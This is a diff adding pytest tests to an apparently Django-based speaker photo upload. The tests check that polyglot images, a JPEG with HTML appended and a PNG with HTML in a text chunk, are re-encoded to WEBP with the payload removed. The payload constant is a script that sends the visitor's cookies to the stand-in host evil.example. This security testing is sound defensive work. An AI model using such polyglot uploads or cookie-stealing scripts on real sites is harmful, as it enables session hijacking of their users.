@@ -61,6 +61,41 @@ def test_valid_photos_are_re_encoded_square_without_metadata(speaker_client, nam
         assert field.name.startswith("speakers/") and "portrait" not in field.name
 
 
+PAYLOAD = b'<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>'
+
+
+def jpeg_with_html_after_its_end() -> bytes:
+    """A polyglot: a real JPEG that a browser sniffing the bytes could also take for HTML."""
+    return picture_bytes("JPEG") + PAYLOAD
+
+
+def png_with_html_in_a_text_chunk() -> bytes:
+    from PIL.PngImagePlugin import PngInfo
+
+    info = PngInfo()
+    info.add_text("Comment", PAYLOAD.decode())
+    output = io.BytesIO()
+    Image.new("RGB", (500, 500), (200, 30, 30)).save(output, format="PNG", pnginfo=info)
+    return output.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [("photo.jpg", jpeg_with_html_after_its_end()), ("photo.png", png_with_html_in_a_text_chunk())],
+    ids=["jpeg-then-html", "png-with-html-chunk"],
+)
+def test_a_polyglot_picture_is_stored_re_encoded_without_its_payload(speaker_client, name, content):
+    client, speaker = speaker_client
+    assert PAYLOAD in content
+    assert upload(client, name, content).status_code == 302
+    speaker.refresh_from_db()
+    for field in (speaker.photo, speaker.photo_small):
+        with field.open("rb") as stored:
+            data = stored.read()
+        assert Image.open(io.BytesIO(data)).format == "WEBP"
+        assert b"<script" not in data and b"evil.example" not in data
+
+
 def test_a_new_photo_replaces_and_deletes_the_old_files(speaker_client, django_capture_on_commit_callbacks):
     client, speaker = speaker_client
     upload(client, "one.png", picture_bytes("PNG"))
